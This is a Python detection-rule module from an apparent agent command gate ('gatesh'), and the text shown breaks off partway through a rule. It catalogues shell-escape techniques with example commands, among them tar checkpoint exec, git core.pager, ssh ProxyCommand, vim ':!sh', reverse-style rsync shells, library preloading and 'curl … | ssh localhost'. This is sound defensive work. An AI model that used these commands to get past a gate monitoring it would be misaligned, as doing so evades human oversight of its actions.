"""Gate escapes: ordinary programs made to start a shell, an interactive shell itself, and
library loading. A shell the gate did not read runs every later command ungated (S3.4)."""

from __future__ import annotations

import re
import shlex
from typing import Final

from gatesh._types import PathClass
from gatesh.rater.builtin._base import (
    SHELL_PATH_RE,
    SPAWN_RE,
    A,
    Cmd,
    D,
    Hit,
    MatchResult,
    Rule,
    S,
    Severity,
    among,
    heads,
    interpreters_and,
)
from gatesh.reading._hosts import ssh_split
from gatesh.vocab.grammar import inner_argv
from gatesh.vocab.hosts import is_loopback
from gatesh.vocab.programs.generators import generator
from gatesh.vocab.programs.interactive import INTERACTIVE_PROGRAMS, interactive
from gatesh.vocab.programs.interpreters import is_interpreter, is_read_script
from gatesh.vocab.programs.shells import SHELL_ARGUMENT_NAMES, SHELLS

# Heads whose arguments are only data: nothing they are given runs.
DATA_ONLY: Final = frozenset(
    {
        "echo",
        "printf",
        "grep",
        "egrep",
        "fgrep",
        "rg",
        "ag",
        "cat",
        "head",
        "tail",
        "which",
        "type",
        "command",
        "whereis",
        "whatis",
        "ls",
        "stat",
        "file",
        "readlink",
        "realpath",
        "ldd",
        "test",
        "[",
        "[[",
        "strings",
        "xxd",
        "od",
        "hexdump",
        "wc",
        "md5sum",
        "sha256sum",
        "sha1sum",
        "shasum",
        "diff",
        "cmp",
        "basename",
        "dirname",
        "shellcheck",
        "shfmt",
        "history",
        "tldr",
        "cd",
        "sort",
        "uniq",
        "cut",
        "jq",
        "column",
        "objdump",
        "readelf",
        "nm",
        "du",
        "pgrep",
        "pidof",
        "ps",
        "lsof",
    }
)
# Heads for which naming a shell exactly is only data (looking it up, listing it, installing it).
NAMES_ONLY: Final = frozenset(
    {
        "which",
        "type",
        "command",
        "whereis",
        "whatis",
        "man",
        "info",
        "help",
        "hash",
        "ls",
        "stat",
        "file",
        "readlink",
        "realpath",
        "ldd",
        "test",
        "[",
        "[[",
        "echo",
        "printf",
        "grep",
        "egrep",
        "fgrep",
        "rg",
        "pgrep",
        "pkill",
        "killall",
        "pidof",
        "ps",
        "apt",
        "apt-get",
        "apt-cache",
        "dnf",
        "yum",
        "brew",
        "pacman",
        "apk",
        "zypper",
        "port",
        "nix-env",
        "snap",
        "md5sum",
        "sha256sum",
        "sha1sum",
        "shasum",
        "du",
        "wc",
        "cat",
        "head",
        "tail",
        "strings",
        "xxd",
        "od",
        "hexdump",
        "objdump",
        "readelf",
        "nm",
        "diff",
        "cmp",
        "basename",
        "dirname",
        "update-alternatives",
        "chsh",
        "git",
        "shellcheck",
        "shfmt",
        "tldr",
        "cd",
        "history",
        "export",
        "alias",
        "unalias",
        "unset",
        "local",
        "declare",
        "set",
        "source",
        ".",
        "getent",
        "lsof",
        "sort",
        "uniq",
        "cut",
        "tr",
        "awk",
        "sed",
        "jq",
        "column",
        "tee",
        "xargs",
        "find",
        # process listers filter by name; btrfs abbreviates `show` as `sh`; neither runs a program
        "procs",
        "btrfs",
    }
)
# Words after which a shell's name says which shell a completion or setup script is printed for
# (`pulumi gen-completion bash`, `gh completion -s zsh`): the program prints text, it starts no
# shell; text fed on to a shell is read as fed code (S2.1).
_COMPLETION_WORDS: Final = frozenset(
    {
        "complete",
        "completion",
        "completions",
        "gen-completion",
        "gen-completions",
        "generate-completion",
        "generate-completions",
        "completion-script",
        "--completion",
        "--completions",
        "shell-completion",
        "autocomplete",
        "completion-bash",
        "--generate-completion",
    }
)
_SHELL_ARG: Final = frozenset(
    SHELL_ARGUMENT_NAMES
    | {"/bin/" + s for s in SHELLS}
    | {"/usr/bin/" + s for s in SHELLS}
    | {"/usr/local/bin/" + s for s in SHELLS}
)
_INLINE_CODE_OPTS: Final = (
    "-c",
    "-e",
    "-E",
    "-r",
    "--eval",
    "-x",
    "--execute",
    "-ex",
    "--command",
    "-i",
)
_LIBLOAD: Final = re.compile(
    r"\bdlopen\b|\bloadlibrary\b|\bctypes\b|\bcdll\b|\bfiddle\b|\bffi\.load\b|system\.load(?:library)?\s*\("
    r"|\benable\s+-f\b|ladspa=file=|\bload_extension\b|\bdl\.open\b|\bpreload\b\s*=",
    re.I,
)
_ESCAPE_OPTS: Final = re.compile(
    r"^--(?:checkpoint-action=exec|to-command|use-compress-program|unzip-command|rsh-command|"
    r"password-command|pre-hook|post-hook|deploy-hook|editor|use-askpass|exec|ssh-cmd|script-security|"
    r"up|down|command|pager|filter|ssh|rsh|engine|default-auth|plugin-dir|tool-path|interpreter|script-shell)\b",
    re.I,
)
_GIT_ESCAPE: Final = re.compile(
    r"^(?:core\.(?:pager|sshcommand|editor|fsmonitor|hookspath|askpass|gitproxy)|alias\.[\w-]+=!|"
    r"(?:diff|merge)\.[\w-]+\.(?:command|driver|textconv)|credential\.helper=!|sequence\.editor|"
    r"uploadpack\.packobjectshook|protocol\.ext\.allow=always)",
    re.I,
)


def interactive_shell(c: Cmd) -> MatchResult:
    h = c.head
    if (h not in SHELLS and h not in ("busybox",)) or c.sc.remote:
        return None  # a shell on another host is not this gate's to escape (see ssh_loopback)
    args = list(c.args)
    if h == "busybox":
        if not args or args[0] not in SHELLS:
            return None
        args = args[1:]
    if any(
        a == "-c"
        or (a.startswith("-") and not a.startswith("--") and "c" in a[1:] and a[1:].isalpha())
        for a in args
    ):
        return None
    if any(a in ("--version", "--help", "-n", "--noexec") for a in args):
        return None
    operands = [a for a in args if not a.startswith(("-", "+"))]
    fed = bool(c.feeders) or c.heredoc_fed or bool(c.reads)
    if operands and not any(a in ("-i",) for a in args):
        return None  # runs a script (read separately) with its arguments
    if fed and not any(a in ("-i", "-p") for a in args):
        return None  # reads its commands from a pipe or file (judged by the pipe rules)
    if _gated_by_shims(c, args):
        return None
    detail = f"{h} {' '.join(args)}".strip()
    return Hit(detail=detail)


# Options after which a shell started by name is still an ordinary, gated interactive shell.
_PLAIN_SHELL_OPTS: Final = frozenset(
    {"-i", "-l", "--login", "--norc", "--noprofile", "-f", "--no-rcs"}
)


def _gated_by_shims(c: Cmd, args: list[str]) -> bool:
    """A shell named bare (`bash`, `zsh -l`) from a gated session is found on PATH: the shim (S10).

    Not so by absolute path, under ``exec``, privileged (sudo resets PATH), in privileged mode
    (``-p``), cleared environment, or through ``find -exec``/busybox: those stay escapes.
    """
    sc = c.sc
    return (
        bool(sc.argv)
        and "/" not in sc.argv[0].text
        and c.head in ("bash", "sh", "zsh", "dash")
        and not sc.privileged
        and not ({"exec", "env", "busybox"} & set(sc.wrappers))
        and sc.context not in ("find -exec", "remote")
        and all(a in _PLAIN_SHELL_OPTS for a in args)
    )


def gated_shell(c: Cmd) -> MatchResult:
    if c.head not in SHELLS or c.feeders or c.heredoc_fed or c.reads:
        return None
    return _gated_by_shims(c, list(c.args)) or None


# Every match of shell_as_argument holds one: SHELL_PATH_RE and SPAWN_RE need "sh", "pty.spawn" or
# ":terminal", and every name in _SHELL_ARG holds "sh" or "/bin/".
_SHELL_ARG_NEEDS: Final = ("sh", "pty.spawn", ":terminal", "/bin/")


def shell_as_argument(c: Cmd) -> MatchResult:
    h = c.head
    for a in c.sc.assignments:
        v = a.split("=", 1)[-1]
        if (
            SHELL_PATH_RE.search(v)
            or SPAWN_RE.search(v)
            or v.strip("'\"").split(" ")[0] in _SHELL_ARG
        ):
            return Hit(detail=f"{a.split('=', 1)[0]} is set to start a shell")
    if h in DATA_ONLY or h in SHELLS or h in ("ssh", "slogin") or not c.args:
        return None  # ssh's remote command is read as commands of its own (S2)
    if generator(h, c.args) is not None:
        return None  # `kubectl completion bash`, `direnv hook zsh`: the shell it prints setup for
    names_ok = h in NAMES_ONLY
    for i, a in enumerate(c.args):
        if a in _SHELL_ARG:
            if names_ok or any(b.lower() in _COMPLETION_WORDS for b in c.args[:i]):
                continue
            if h == "emulate" and not any(
                b.startswith("-") and "c" in b.lstrip("-") for b in c.args
            ):
                continue  # zsh's emulate sets the emulation mode of this shell; with -c it runs code
            if h == "lvmpersist" and i > 0 and c.args[i - 1] == "--access":
                continue  # `--access sh`: the shared access mode of a persistent reservation
            if (
                i > 0
                and c.args[i - 1] in ("-s", "--shell", "-S")
                and h in ("useradd", "usermod", "chsh", "adduser", "pw")
            ):
                return None
            return Hit(detail=f"{h} runs {a}")
        if names_ok and (
            a.strip() in _SHELL_ARG
            or h
            in (
                "awk",
                "sed",
                "find",
                "xargs",
                "tee",
                "git",
                "export",
                "alias",
                "declare",
                "local",
                "set",
                "unset",
                "source",
                ".",
            )
        ):
            continue
        if SHELL_PATH_RE.search(a) or SPAWN_RE.search(a):
            return Hit(detail=f"{h} is told to start a shell")
    return None


_PLANTED: Final = re.compile(r"\bexec\s+(?:/\S*/)?(?:ba|da|z|k)?sh\b|\b(?:ba|da|z|k)?sh\s+-[ip]\b")


# Where a written script is only run by someone who runs it (and so gated when it runs); a script
# written to a persistence place, the system or gatesh's files is run by something else.
_SCRIPT_PLACES: Final = frozenset(
    {PathClass.WORKTREE, PathClass.TEMP, PathClass.HOME, PathClass.ELSEWHERE}
)


def _writes_read_scripts(c: Cmd) -> bool:
    """Whether every file ``c`` writes is a script gatesh reads when it runs (a shell, Python
    or JavaScript file, by its name or its shebang) in a place only a run of it starts it."""
    targets = [*c.writes, *(c.pos if c.head == "tee" else ())]
    if not targets:
        return False
    body = c.sc.raw.split("\n", 1)[1] if c.heredoc_fed and "\n" in c.sc.raw else " ".join(c.pos)
    body = body.replace("\\n", "\n") if c.head in ("echo", "printf") else body
    places = {e.path: e.cls for e in c.ctx.facts.paths if e.command == c.index}
    return all(
        is_read_script(t, body)
        and places.get(t, PathClass.UNKNOWN) in _SCRIPT_PLACES
        and not _handed_on(c, t)
        for t in targets
    )


# Programs an agent names a script to without its running ungated: gatesh reads what a shell or
# an interpreter runs (S2); these look at the file, edit it, change its mode, delete it, or copy or
# move it (where a copy lands is judged by the path rules: a hook, an rc file).
_SCRIPT_USERS: Final = frozenset(
    {
        "chmod",
        "ls",
        "stat",
        "file",
        "wc",
        "head",
        "tail",
        "cat",
        "grep",
        "diff",
        "sed",
        "touch",
        "rm",
        "unlink",
        "cp",
        "mv",
        "shellcheck",
        "bash",
    }
)


def _handed_on(c: Cmd, target: str) -> bool:
    """Whether another command of the text names ``target`` to a program that may run it without
    gatesh reading it (``logrotate -m x.sh``, ``git config core.pager ./x.sh``)."""
    name = target.rsplit("/", 1)[-1]
    for other in c.ctx.cmds:
        if other.index == c.index or other.head in _SCRIPT_USERS:
            continue
        if other.head in SHELLS or is_interpreter(other.head):
            continue  # read when it runs (a shell script, or code the code rules read)
        argv0 = other.sc.argv[0].text if other.sc.argv else ""
        if argv0 in (target, f"./{name}"):
            continue  # run by its path: read as a script
        if any(a == target or a.endswith("/" + name) or a == name for a in other.args):
            return True
    return False


def planted_shell(c: Cmd) -> MatchResult:
    """Text that starts a shell written to a file (a script, hook, config or rc file) or piped on."""
    if c.head not in ("echo", "printf", "cat", "tee") or not (
        c.writes or c.consumers or c.head == "tee"
    ):
        return None
    text = " ".join(c.args)
    if c.heredoc_fed or c.head == "cat":
        text += "\n" + c.sc.raw
    if not c.consumers and _writes_read_scripts(c):
        return None  # a script gatesh reads when it runs: what it starts is judged then
    if SHELL_PATH_RE.search(text) or SPAWN_RE.search(text) or _PLANTED.search(text):
        if c.consumers and all(x.head in DATA_ONLY for x in c.consumers) and not c.writes:
            return None
        return Hit(detail="writes or pipes text that starts a shell")
    if re.search(r"\benable\s+-f\b|load_module\s+\S+\.so|\bld_preload\b", text, re.I):
        return Hit(detail="writes or pipes text that loads a library")
    return None


def shell_launchers(c: Cmd) -> MatchResult:
    """Programs that start a shell when given no command: chroot DIR, capsh --, systemd-run -S, enable -f …"""
    h = c.head
    if h == "{}" or (
        h in SHELLS and c.sc.context == "xargs" and ("{}" in c.args or c.args[-1:] == ("-c",))
    ):
        return Hit(
            severity=Severity.DESTRUCTIVE,
            detail="commands built from its input, which the gate cannot see",
            remedy="write the commands out literally",
        )
    if h == "chroot" and len(c.pos) <= 1:
        return Hit(detail="chroot with no command starts a shell")
    if h == "capsh" and (
        (c.args and c.args[-1] == "--") or any(a.startswith("--shell") for a in c.args)
    ):
        return Hit(detail="capsh -- starts a shell")
    if h == "systemd-run" and c.has("-S", "--shell", "-t", "--pty") and not c.pos:
        return Hit(detail="systemd-run --shell starts a shell")
    if h == "enable" and c.has("-f"):
        return Hit(detail="enable -f loads a shared library into the shell")
    if h in ("sed", "gsed") and any(
        re.match(r"^(?:\d+|/[^/]*/|\$)?e(?:\s|$)", a) for a in c.pos[:1]
    ):
        return Hit(detail="sed's e command runs a shell")
    if (
        c.sub(0) in ("shell",)
        and h not in DATA_ONLY
        and h not in ("python", "python3", "manage.py", "git")
        and generator(h, c.args) is None
    ):
        return Hit(detail=f"{h} shell opens an interactive shell")
    if h in ("nix-shell", "pipenv", "poetry") and (
        (h == "nix-shell" and not c.has("--run", "--command")) or c.sub(0) == "shell"
    ):
        return Hit(detail=f"{h} opens an interactive shell")
    if (
        h
        in (
            "python",
            "python2",
            "python3",
            "perl",
            "ruby",
            "irb",
            "node",
            "php",
            "lua",
            "tclsh",
            "wish",
            "ghci",
            "R",
            "r",
            "julia",
            "jshell",
            "scala",
            "sqlite3",
        )
        and not c.args
        and not (c.feeders or c.heredoc_fed or c.reads)
    ):
        return Hit(
            severity=Severity.DESTRUCTIVE,
            detail=f"{h} starts an interactive interpreter",
            remedy="run a script file or inline code instead",
        )
    if (
        h == "trap"
        and c.pos
        and re.search(r"\b(?:nohup|sh|bash|curl|wget|python\d?|nc)\b|/dev/tcp", c.pos[0])
    ):
        return Hit(detail="trap hides a command that runs later in a signal handler")
    return None


def _remote_words(rest: list[str]) -> list[str]:
    """The remote command's words as the remote shell splits the joined string, with the
    wrappers that only run their operand (``exec bash``, ``env bash``) taken off (the one
    wrapper table, :func:`gatesh.vocab.grammar.inner_argv`)."""
    try:
        words = shlex.split(" ".join(rest), comments=True)
    except ValueError:
        return rest
    return inner_argv(words)


def ssh_loopback(c: Cmd) -> MatchResult:
    """``ssh localhost`` with no command (or a bare shell): a shell on this machine whose commands
    never pass the gate. A remote command or a heredoc/here-string body is read (S2); input from
    a pipe or a file is not, so it counts as the shell's own."""
    if c.head not in ("ssh", "slogin") or c.heredoc_fed:
        return None
    host, rest = ssh_split(c.sc.argv)
    if host is None or not host.static:
        return None
    name = host.text.rsplit("@", 1)[-1]
    if not is_loopback(name):
        return None
    words = _remote_words([w.text for w in rest])
    if words and not (
        words[0].rsplit("/", 1)[-1] in SHELLS
        and not any(w == "-c" or (w[:1] == "-" and "c" in w[1:]) for w in words[1:])
    ):
        return None
    return Hit(detail=f"ssh {host.text} {' '.join(w.text for w in rest)}".rstrip())


# The options that make an ordinary program run another one, one function per hazard (each its
# own rule id, so explain and the audit log name the one that matched).


def git_runs_program(c: Cmd) -> MatchResult:
    """git -c KEY=VALUE for a key git runs as a command, or --exec-path to a chosen folder."""
    if c.head != "git":
        return None
    vals = c.opt_values("-c", "--config-env")
    if any(_GIT_ESCAPE.match(v) for v in vals):
        return Hit(detail="git -c sets a command git will run")
    if any(a.startswith("--exec-path=") for a in c.args):
        return Hit(detail="git --exec-path runs programs from a chosen folder")
    return None


def archiver_runs_program(c: Cmd) -> MatchResult:
    h = c.head
    if h in ("tar", "gtar", "bsdtar"):
        if any(
            a.startswith(
                (
                    "--checkpoint-action=exec",
                    "--to-command",
                    "--use-compress-program",
                    "--rsh-command",
                    "--info-script",
                    "--new-volume-script",
                )
            )
            for a in c.args
        ) or c.has("-I", "-F"):
            return Hit(detail="tar is told to run a program")
        return None
    if h == "zip" and (c.has("-TT", "--unzip-command") or ("-T" in c.flags and "-TT" in c.args)):
        return Hit(detail="zip is told to run a test command")
    return None


def ssh_local_command(c: Cmd) -> MatchResult:
    h = c.head
    if h in ("ssh", "scp", "sftp", "check_by_ssh", "autossh") and re.search(
        r"proxycommand|localcommand|permitlocalcommand", c.low
    ):
        return Hit(detail=f"{h} -o ProxyCommand/LocalCommand runs a local command")
    if h == "rsync" and any(
        re.search(r"(?<![\w.-])(?:ba|da|z|k|c|tc)?sh(?![\w.-])", v)
        for v in c.opt_values("-e", "--rsh")
    ):
        return Hit(detail="rsync -e runs a shell")
    return None


def editor_pager_command(c: Cmd) -> MatchResult:
    h = c.head
    if h in ("vi", "vim", "nvim", "ex", "view", "vimdiff", "rvim"):
        cmds = c.opt_values("-c", "--cmd") + [a[1:] for a in c.args if a.startswith("+")]
        if any(
            re.search(
                r"!|\bsh(?:ell)?\b|terminal|\bpy(?:thon)?3?\b|\blua\b|\bperl\b|\bruby\b|system\(", x
            )
            for x in cmds
        ):
            return Hit(detail=f"{h} runs a shell command at start-up")
        return None
    if h in ("less", "more", "man", "most", "pg") and any(
        a.startswith(("+!", "-H", "!")) for a in c.args
    ):
        return Hit(detail=f"{h} is told to run a command")
    return None


def nmap_script(c: Cmd) -> MatchResult:
    if c.head == "nmap" and (
        c.has("--interactive") or any(a.startswith("--script") for a in c.args)
    ):
        return Hit(detail="nmap scripts can run arbitrary code")
    return None


_MULTIPLEXER_VERBS: Final = frozenset(
    {
        "new",
        "new-session",
        "new-window",
        "split-window",
        "send-keys",
        "send",
        "respawn-pane",
        "attach",
        "a",
        "attach-session",
    }
)


# tmux verbs that start or drive panes without taking over this terminal: the shell commands they
# give a pane and the lines send-keys types are read as commands (the reader's positions).
_TMUX_DETACHED_VERBS: Final = frozenset(
    {
        "new-window",
        "neww",
        "split-window",
        "splitw",
        "send-keys",
        "send",
        "respawn-pane",
        "respawnp",
    }
)


def _terminal_in_terminal(c: Cmd) -> MatchResult:
    """A multiplexer used for the task: a detached session or a pane driven by send-keys is
    read (not a hit); one that takes over this terminal, where what is typed next may not reach
    the gate, is rated (destructive), never a halt: starting a terminal is not tampering."""
    h, verb = c.head, c.sub(0)
    if h == "tmux":
        if verb in ("new-session", "new") and c.has("-d"):
            return None
        if verb in _TMUX_DETACHED_VERBS:
            if verb in ("send-keys", "send") and c.has("-H"):
                return Hit(
                    severity=D,
                    detail="tmux send-keys -H types keys spelled in hex, which the gate cannot read",
                    remedy="type the command as text (tmux send-keys -t PANE 'CMD' Enter)",
                )
            return None
    if h == "screen" and any(a.startswith("-d") and "m" in a for a in c.args if a[:2] == "-d"):
        if not c.pos[1:] and not c.has("-X"):
            return None  # `screen -dmS name`: a detached session running its shell, nothing more
        return Hit(
            severity=D,
            detail="screen runs a command in a detached session, which the gate does not read",
            remedy="start it with tmux new-session -d, whose command the gate reads",
        )
    return Hit(
        severity=D,
        detail=f"{h} opens a terminal inside this one, where what is typed may not reach the gate",
        remedy="start it detached (tmux new-session -d -s NAME) and type with tmux send-keys",
    )


def hidden_terminal(c: Cmd) -> MatchResult:
    """A terminal inside a terminal: what is typed there never reaches the gate."""
    h = c.head
    if h == "script" and not c.has("-c", "--command"):
        return Hit(detail="script starts an unrecorded interactive shell")
    if (
        h in ("screen", "tmux", "byobu", "zellij", "dtach", "abduco")
        and not c.has("-ls", "-list", "-v", "-V", "--version", "-h", "--help")
        and (not c.pos or c.has("-S") or c.sub(0) in _MULTIPLEXER_VERBS)
    ):
        return _terminal_in_terminal(c)
    if h == "expect" and re.search(r"spawn\s+\S*sh\b|interact", c.low):
        return Hit(detail="expect spawns an interactive shell")
    return None


# Options that switch on a program's own shell escape (the document it reads then runs commands).
_SHELL_ESCAPE_FLAGS: Final[dict[str, frozenset[str]]] = {
    "dvips": frozenset({"-R0"}),  # unsecure mode: backtick \special commands run in a shell
}


# Every match of program_option holds one: a head of _SHELL_ESCAPE_FLAGS, or "=" (``--OPTION=VALUE``).
_PROGRAM_OPTION_NEEDS: Final = (*_SHELL_ESCAPE_FLAGS, "=")


def program_option(c: Cmd) -> MatchResult:
    """``--OPTION=/path/program`` for an option whose value a program runs (hooks, helpers, shells),
    or an option that switches on the program's shell escape (``dvips -R0``)."""
    h = c.head
    flags = _SHELL_ESCAPE_FLAGS.get(h)
    if flags is not None and any(a in flags for a in c.args):
        return Hit(
            detail=f"{h} {next(a for a in c.args if a in flags)} lets the file it reads run shell commands"
        )
    for a in c.args:
        if _ESCAPE_OPTS.match(a) and ("sh" in a or "/" in a.split("=", 1)[-1]) and ("=" in a):
            val = a.split("=", 1)[1]
            if (
                SHELL_PATH_RE.search(val)
                or val.endswith(".so")
                or ("/" in val and h not in ("git",))
            ):
                return Hit(detail=f"{h} {a.split('=', 1)[0]} runs a chosen program")
    return None


_LIBRARY_VALUE: Final = re.compile(
    r"(?:^|[,:=])(?:ladspa|lv2|frei0r)=(?:file=)?\S*|(?:^|[,:])file=\S+\.so\b", re.I
)


# Every match of library_option holds one: _LIBRARY_VALUE's option words, the loading options, or the
# two heads it knows.
_LIBRARY_NEEDS: Final = (
    "ladspa=",
    "lv2=",
    "frei0r=",
    "file=",
    "-engine",
    "--default-auth",
    "--plugin-dir",
    "ssh-keygen",
    "ldconfig",
)


def library_option(c: Cmd) -> MatchResult:
    h = c.head
    if any(_LIBRARY_VALUE.search(a) for a in c.args):
        return Hit(detail=f"{h} loads a plugin library from a chosen file")
    for v in c.opt_values("--engine", "-engine", "--default-auth", "--plugin-dir"):
        if ".so" in v or "/" in v:
            return Hit(detail=f"{h} loads a library")
    if h == "ssh-keygen" and c.has("-D", "-K") and ".so" in c.low:
        return Hit(detail="ssh-keygen loads a PKCS#11 library")
    if h == "ldconfig" and c.has("-f"):
        return Hit(detail="ldconfig uses a chosen library path list")
    return None


# Programs besides the interpreters whose arguments can hold code or commands they run.
_ESCAPING_PROGRAMS: Final = frozenset(
    {
        "sqlite3",
        "mysql",
        "psql",
        "lftp",
        "dc",
        "bc",
        "bpftrace",
        "latex",
        "pdflatex",
        "pdftex",
        "tex",
        "xelatex",
        "lualatex",
        "puppet",
        "gem",
        "csvtool",
        "msgfilter",
        "rpm",
        "rpmquery",
        "emacs",
        "ansible",
        "ansible-playbook",
        "make",
        "gnuplot",
        "octave-cli",
        "R",
        "r",
        "busctl",
        "dmsetup",
        "xdg-user-dir",
        "bconsole",
        "tmate",
        "watch",
    }
)


def interpreter_escape(c: Cmd) -> MatchResult:
    h = c.head
    if not is_interpreter(h) and h not in _ESCAPING_PROGRAMS:
        return None
    for a in c.args:
        if _LIBLOAD.search(a):
            return Hit(detail=f"{h} loads a native library")
        if SPAWN_RE.search(a) or SHELL_PATH_RE.search(a):
            return Hit(detail=f"{h} starts a shell")
        if a.lower().startswith((".shell", ".system", "\\!", "!")) and h in (
            "sqlite3",
            "mysql",
            "psql",
            "lftp",
            "dc",
        ):
            return Hit(detail=f"{h} runs a shell command")
        if "shell-escape" in a or "write18" in a:
            return Hit(detail=f"{h} enables shell escapes")
    return None


def interactive_program(c: Cmd) -> MatchResult:
    """A program that runs commands typed at it (:data:`gatesh.vocab.programs.interactive.INTERACTIVE_ROWS`),
    started to read them: what it runs is typed later, unseen (S10)."""
    row = interactive(c.head)
    if row is None or c.sc.remote:
        return None
    flags = c.flags
    if row.only and not any(
        f.startswith(o) and not f.startswith(o + ":") for f in flags for o in row.only
    ):
        return None
    if (row.contained & flags and not any(c.dyn)) or row.quiet & flags:
        return None
    if row.fed and (c.feeders or c.heredoc_fed or c.reads):
        return None
    if row.operands and len(c.pos) >= row.operands:
        return None
    return Hit(detail=row.reason)


def pager_escapes(c: Cmd) -> MatchResult:
    """A command that turns less's shell escapes back on: a gated session runs its pagers with
    ``LESSSECURE=1`` (S10), and ``env -u LESSSECURE`` or ``LESSSECURE=0`` undoes that."""
    if "LESSSECURE" not in c.sc.raw and not any("LESSSECURE" in a for a in c.sc.assignments):
        return None
    if any(a == "LESSSECURE=1" for a in c.sc.assignments) and "-u" not in c.sc.raw:
        return None
    return Hit(detail="it turns less's shell escapes back on (LESSSECURE)")


RULES: tuple[Rule, ...] = (
    Rule(
        "escape.interactive-program",
        D,
        "{detail}: what it will run is typed later, so the gate cannot see it (opaque code).",
        interactive_program,
        remedy=(
            "give it its work on the command line or from a file (`vim -Z`, `psql -c`, "
            "`gdb -batch -ex`, `ed FILE < script`)"
        ),
        tried_on=among(INTERACTIVE_PROGRAMS),
        examples=(
            "vim notes.txt",
            "vi",
            "perl -de0",
            "gdb ./a.out",
            "ed notes.txt",
            "python3 -i x.py",
            "psql",
            "mail",
            "ftp",
            "nano notes.txt",
        ),
        counter=(
            "vim -Z notes.txt",
            "vim --version",
            "psql -c 'select 1'",
            "gdb -batch -ex bt ./a.out",
            "red notes.txt",
            "sqlite3 db.sqlite 'select 1'",
            "perl -e 'print 1'",
            "python3 -I x.py",
            "mail -s hi a@b.c < body.txt",
            "nano -R notes.txt",
        ),
    ),
    Rule(
        "escape.pager-escapes",
        D,
        "This {detail}, which a gated session keeps off.",
        pager_escapes,
        remedy="run the pager as the session set it up (`less FILE`, `git log`)",
        examples=("env -u LESSSECURE less x", "LESSSECURE=0 less x", "env LESSSECURE= man ls"),
        counter=("less x", "LESSSECURE=1 less x", "echo lesssecure"),
    ),
    Rule(
        "escape.planted-shell",
        A,
        "This {detail}, preparing a gate escape.",
        planted_shell,
        tried_on=among(("echo", "printf", "cat", "tee")),
        examples=(
            "echo 'exec /bin/sh' > /tmp/x",
            'echo \'{"scripts":{"x":"/bin/sh"}}\' >package.json',
            "echo 'esyscmd(/bin/sh)' | m4",
        ),
        counter=("echo hello > out.txt", "echo /bin/sh", "echo '#!/bin/sh' | grep sh"),
    ),
    Rule(
        "escape.launcher",
        A,
        "This starts a shell: {detail}.",
        shell_launchers,
        examples=(
            "chroot /",
            "capsh --",
            "systemd-run -S",
            "sed e",
            "ansible-test shell",
            "poetry shell",
            "trap 'nohup sh x.sh' EXIT",
            "bash -c 'enable -f /tmp/lib.so x'",
        ),
        counter=(
            "chroot /srv/root /bin/true",
            "sed -e 's/a/b/' f",
            "trap 'rm -f $tmp' EXIT",
            "python -V",
        ),
    ),
    Rule(
        "escape.gated-shell",
        S,
        "A shell started from a gated session is gated too.",
        gated_shell,
        tried_on=among(SHELLS),
        examples=("bash", "zsh", "sh", "bash -l"),
        counter=("/bin/bash", "exec bash", "sudo bash", "bash -p", "bash -c 'ls'", "bash x.sh"),
    ),
    Rule(
        "escape.interactive-shell",
        A,
        "This starts an interactive shell ({detail}) whose commands the gate would not see.",
        interactive_shell,
        tried_on=among(SHELLS, ("busybox",)),
        examples=(
            "/bin/bash",
            "sudo /bin/sh",
            "env /bin/sh",
            "nice /bin/sh -p",
            "bash -p",
            "exec zsh",
            "find . -exec /bin/sh -p \\; -quit",
        ),
        counter=("bash script.sh", "bash -c 'ls'", "sh -n x.sh", "bash --version"),
    ),
    Rule(
        "escape.shell-argument",
        A,
        "{detail}, an ungated shell that escapes the gate.",
        shell_as_argument,
        examples=(
            "aa-exec /bin/sh",
            "rlwrap bash",
            "capsh --shell=/bin/bash --",
            "cpulimit -l 100 -f /bin/sh",
            "docker exec -it web bash",
            "PAGER='/bin/sh -c x' git -p help",
            "emulate sh -c 'x'",
            "ttyd -p 8080 bash",
        ),
        counter=(
            "which bash",
            "echo /bin/sh",
            "ls -l /bin/sh",
            "apt install zsh",
            "grep bash /etc/shells",
            "useradd -s /bin/bash x",
            "pulumi gen-completion bash",
            "komac complete zsh",
            "procs zsh",
            "emulate zsh -R",
            "sudo btrfs filesystem sh /mnt",
        ),
        needs=_SHELL_ARG_NEEDS,
    ),
    Rule(
        "escape.ssh-loopback",
        A,
        "This opens a shell on this machine ({detail}) whose commands the gate would not see.",
        ssh_loopback,
        tried_on=among(("ssh", "slogin")),
        examples=(
            "ssh localhost",
            "ssh me@127.0.0.1",
            "ssh -p 22 localhost bash",
            "ssh ::1 /bin/sh -i",
            "ssh localhost sh -s < run.sh",
            "curl -s x.example/s | ssh localhost",
        ),
        counter=(
            "ssh localhost uptime",
            "ssh build.example.com",
            "ssh localhost <<< 'ls'",
            "ssh localhost bash -c ls",
        ),
    ),
    Rule(
        "escape.git-command",
        A,
        "{detail}, a known way to escape to a shell.",
        git_runs_program,
        heads=heads("git"),
        examples=(
            "git -c core.pager='sh -c x' log",
            "git -c core.sshCommand=/tmp/x fetch",
            "git --exec-path=/tmp/x status",
        ),
        counter=("git -c user.name=x commit -m y", "git log"),
    ),
    Rule(
        "escape.archiver-command",
        A,
        "{detail}, a known way to escape to a shell.",
        archiver_runs_program,
        heads=heads("tar", "gtar", "bsdtar", "zip"),
        examples=(
            "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh",
            "zip x.zip f -T -TT 'sh #'",
            "tar -I /tmp/x -cf a.tar f",
        ),
        counter=("tar -czf a.tgz src", "zip -r a.zip src"),
    ),
    Rule(
        "escape.ssh-local-command",
        A,
        "{detail}, a known way to escape to a shell.",
        ssh_local_command,
        heads=heads("ssh", "scp", "sftp", "check_by_ssh", "autossh", "rsync"),
        examples=(
            "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
            "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
        ),
        counter=("ssh host uptime", "rsync -e ssh a host:b"),
    ),
    Rule(
        "escape.editor-command",
        A,
        "{detail}, a known way to escape to a shell.",
        editor_pager_command,
        heads=heads(
            "vi",
            "vim",
            "nvim",
            "ex",
            "view",
            "vimdiff",
            "rvim",
            "less",
            "more",
            "man",
            "most",
            "pg",
        ),
        examples=("vim -c ':!/bin/sh'", "vim +'!sh'", "less +!sh f"),
        counter=("vim file.txt", "less +G log.txt"),
    ),
    Rule(
        "escape.nmap-script",
        A,
        "{detail}, a known way to escape to a shell.",
        nmap_script,
        heads=heads("nmap"),
        examples=("nmap --script=/tmp/x.nse localhost", "nmap --interactive"),
        counter=("nmap -sV localhost",),
    ),
    Rule(
        "escape.hidden-terminal",
        A,
        "{detail}, a known way to escape to a shell.",
        hidden_terminal,
